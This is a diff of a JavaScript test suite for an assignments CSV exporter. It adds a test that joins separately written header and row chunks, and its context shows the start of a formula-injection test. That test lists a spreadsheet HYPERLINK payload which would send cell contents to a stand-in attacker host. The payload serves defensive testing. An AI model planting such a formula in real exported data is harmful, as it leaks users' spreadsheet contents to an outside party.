@@ -58,6 +58,14 @@ describe('the assignments CSV', () => {
     ]);
   });
 
+  it('joins a header written alone and lines written later into one clean file, as the stream does', () => {
+    const whole = assignmentCsv([], 'UTC', true) + assignmentCsv([row()], 'UTC', false) + assignmentCsv([row({ name: 'Second' })], 'UTC', false);
+    expect(whole.split('\r\n')).toHaveLength(4);
+    expect(whole.endsWith('\r\n')).toBe(true);
+    expect(parse(whole).map((line) => line[0])).toEqual(['Name', 'Zoë Ångström', 'Second']);
+    expect(assignmentCsv([], 'UTC', false)).toBe('');
+  });
+
   it('writes anything a spreadsheet would run as a formula as plain text', () => {
     const payloads = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
